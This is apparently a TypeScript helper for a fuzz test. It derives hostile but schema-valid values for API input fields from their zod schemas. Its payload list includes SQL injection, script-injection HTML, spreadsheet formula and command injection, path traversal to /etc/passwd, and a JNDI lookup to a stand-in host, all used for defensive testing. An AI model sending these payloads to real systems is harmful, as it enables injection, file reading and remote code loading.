/**
 * Hostile values for one field of a procedure's input, generated from the field's own zod schema
 * (its type, length and number bounds, patterns and options): values that PASS the schema but are
 * meant to hurt (boundary lengths, Unicode, right-to-left text, SQL- and HTML-looking text, formulas,
 * extreme dates and numbers within the bounds, other records' ids and ids of records the caller may
 * not see) and values that fail it. Used by the fuzz test (trpc/fuzz.test.ts).
 */
import fc from "fast-check";

// zod 4's internals, as far as they are read here.
export interface Z {
  _zod: { def: Record<string, unknown> & { type: string }; bag?: { minimum?: number; maximum?: number; patterns?: Set<RegExp> } };
  safeParse(v: unknown): { success: boolean };
}

const WRAPPERS = ["optional", "nullable", "default", "prefault", "readonly", "catch", "nonoptional"];

/** The schema that checks a value: optional, nullable, default, pipe and lazy unwrapped. */
export function unwrap(schema: Z): Z {
  let s = schema;
  for (let i = 0; i < 20; i++) {
    const d = s._zod.def;
    if (WRAPPERS.includes(d.type)) s = d.innerType as Z;
    else if (d.type === "pipe") s = d.in as Z;
    else if (d.type === "lazy") s = (d.getter as () => Z)();
    else break;
  }
  return s;
}

export interface Field {
  /** Keys from the input's top level, e.g. ["patch", "name"] or ["entries", 0, "status"]. */
  path: (string | number)[];
  schema: Z;
  /** The field's value in the valid input (undefined when the valid input leaves it out). */
  value: unknown;
}

const isPlainObject = (v: unknown): v is Record<string, unknown> => !!v && typeof v === "object" && !Array.isArray(v) && !(v instanceof Date);

/** Every field of an input (containers and what is in them, optional fields left out too), to depth 4. */
export function fieldsOf(schema: Z, value: unknown, path: (string | number)[] = []): Field[] {
  const out: Field[] = [];
  if (path.length > 0) out.push({ path, schema, value });
  if (path.length >= 4) return out;
  const s = unwrap(schema);
  const d = s._zod.def;
  if (d.type === "object" && isPlainObject(value)) {
    for (const [key, sub] of Object.entries(d.shape as Record<string, Z>)) out.push(...fieldsOf(sub, value[key], [...path, key]));
  } else if (d.type === "array" && Array.isArray(value) && value.length > 0) {
    out.push(...fieldsOf(d.element as Z, value[0], [...path, 0]));
  } else if (d.type === "record" && isPlainObject(value)) {
    for (const key of Object.keys(value).slice(0, 5)) out.push(...fieldsOf(d.valueType as Z, value[key], [...path, key]));
  } else if (d.type === "union") {
    const option = (d.options as Z[]).find((o) => o.safeParse(value).success);
    if (option) out.push(...fieldsOf(option, value, path).filter((f) => f.path.length > path.length));
  }
  return out;
}

/** A copy of `input` with the field at `path` set to `value` (removed when undefined). */
export function setAt(input: unknown, path: (string | number)[], value: unknown): unknown {
  if (path.length === 0) return value;
  const [key, ...rest] = path;
  const copy = (Array.isArray(input) ? [...input] : isPlainObject(input) ? { ...input } : {}) as Record<string | number, unknown>;
  const next = setAt(copy[key!], rest, value);
  if (next === undefined && rest.length === 0) delete copy[key!];
  else copy[key!] = next;
  return copy;
}

export const HOSTILE_TEXT = [
  "'; DROP TABLE person; --",
  "Robert'); DELETE FROM family WHERE ('1'='1",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "=HYPERLINK(\"http://example.invalid\",\"x\")",
  "+cmd|' /C calc'!A0",
  "\u202eevil.exe\u202c",
  "مرحبا بالعالم، هذا نص من اليمين إلى اليسار",
  "שלום עולם",
  "Zoë Ørsted-Łukasz Šťastný",
  "e\u0301\u0301\u0301 combining",
  "😀👩‍👩‍👧‍👦🏳️‍🌈",
  "  padded  ",
  "../../etc/passwd",
  "${jndi:ldap://example.invalid/a}",
  "%00%27",
  "null",
  "undefined",
  "0",
];
export const EXTREME_DATES = ["0001-01-01", "1900-01-01", "1970-01-01", "2024-02-29", "2038-01-19", "9999-12-31", "0001-01-01T00:00:00.000Z", "9999-12-31T23:59:59.999Z", "2024-02-29T23:59:59+14:00"];
const LONE = ["\ud800", "a\u0000b"];

/** A small seeded generator (mulberry32), for choosing among candidates. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function pick<T>(items: T[], n: number, seed: number): T[] {
  const rnd = random(seed);
  const pool = [...items];
  const out: T[] = [];
  while (out.length < n && pool.length > 0) out.push(pool.splice(Math.floor(rnd() * pool.length), 1)[0]!);
  return out;
}

function candidates(field: Field, ids: string[], seed: number): { cands: unknown[]; bad: unknown[]; preferred: unknown[] } {
  const s = unwrap(field.schema);
  const d = s._zod.def;
  const bag = s._zod.bag ?? {};
  const value = field.value;
  const key = String(field.path[field.path.length - 1]);
  switch (d.type) {
    case "string": {
      const min = Math.max(0, bag.minimum ?? 0);
      const max = Math.min(bag.maximum ?? 5000, 100_000);
      const arbs: fc.Arbitrary<string>[] = [fc.string({ unit: "grapheme", minLength: min, maxLength: Math.max(min, Math.min(max, 40)) })];
      for (const pattern of bag.patterns ?? []) arbs.push(fc.stringMatching(pattern).filter((x) => x.length >= min && x.length <= max));
      const sampled = fc.sample(fc.oneof(...arbs), { seed, numRuns: 12 });
      const bounds = ["x".repeat(min), "x".repeat(max), "é".repeat(max), `${"😀".repeat(Math.floor(max / 2))}`];
      const isId = key === "id" || /Ids?$/.test(key) || /^\d+$/.test(key);
      return { cands: [...HOSTILE_TEXT, ...EXTREME_DATES, ...bounds, ...sampled, ...ids], bad: [...LONE, 12345, "x".repeat(max + 1)], preferred: isId ? ids : [] };
    }
    case "number":
    case "bigint": {
      const min = bag.minimum ?? -Number.MAX_SAFE_INTEGER;
      const max = bag.maximum ?? Number.MAX_SAFE_INTEGER;
      const lo = Math.max(min, -(2 ** 31));
      const hi = Math.min(max, 2 ** 31 - 1);
      const sampled = lo <= hi ? fc.sample(fc.oneof(fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) }), fc.double({ min: lo, max: hi, noNaN: true })), { seed, numRuns: 6 }) : [];
      return { cands: [min, max, min + 1, max - 1, 0, 1, -1, 0.5, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, Number.MAX_SAFE_INTEGER, 1e308, ...sampled], bad: ["1", Number.NaN, Number.POSITIVE_INFINITY], preferred: [min, max] };
    }
    case "boolean":
      return { cands: [!value, true, false], bad: ["true", 1], preferred: [] };
    case "enum":
      return { cands: Object.values(d.entries as Record<string, unknown>), bad: ["not_an_option"], preferred: [] };
    case "literal":
      return { cands: [], bad: ["not_the_literal"], preferred: [] };
    case "date":
      return { cands: [new Date(0), new Date(-8.64e15), new Date(8.64e15), new Date("2024-02-29T12:00:00Z")], bad: [new Date(Number.NaN), "yesterday"], preferred: [] };
    case "array": {
      const list = Array.isArray(value) ? value : [];
      const max = Math.min(bag.maximum ?? 50, 200);
      return { cands: [[], [...list, ...list], list.length ? Array.from({ length: max }, () => list[0]) : [], list.length ? [...list].reverse() : []], bad: ["not a list", [null]], preferred: [] };
    }
    case "object":
      return { cands: [{}], bad: ["not an object", []], preferred: [] };
    case "record":
      return { cands: [{}, { ...(isPlainObject(value) ? value : {}), "<script>": "x", "'; DROP TABLE person; --": 1 }], bad: [[], "x"], preferred: [] };
    default:
      return { cands: [{}, null, "x", 0, [], { a: { b: { c: 1 } } }, "'; DROP TABLE person; --"], bad: [], preferred: [] };
  }
}

/**
 * Up to `n` values for `field` that pass its schema (ids first for id fields) and one that fails it,
 * none equal to the valid input's value.
 */
export function hostileValues(field: Field, ids: string[], seed: number, n: number): { valid: unknown[]; invalid: unknown[] } {
  const { cands, bad, preferred } = candidates(field, ids, seed);
  const same = (v: unknown) => JSON.stringify(v) === JSON.stringify(field.value);
  const ok = (v: unknown) => !same(v) && field.schema.safeParse(v).success;
  const unique = (vs: unknown[]) => [...new Map(vs.map((v) => [typeof v === "string" ? `s:${v}` : JSON.stringify(v) ?? String(v), v])).values()];
  const first = pick(unique(preferred.filter(ok)), Math.ceil(n / 2), seed);
  const rest = pick(unique(cands.filter((v) => ok(v) && !first.includes(v))), n - first.length, seed + 1);
  const invalid = pick(unique(bad.filter((v) => !field.schema.safeParse(v).success)), 1, seed + 2);
  return { valid: [...first, ...rest], invalid };
}
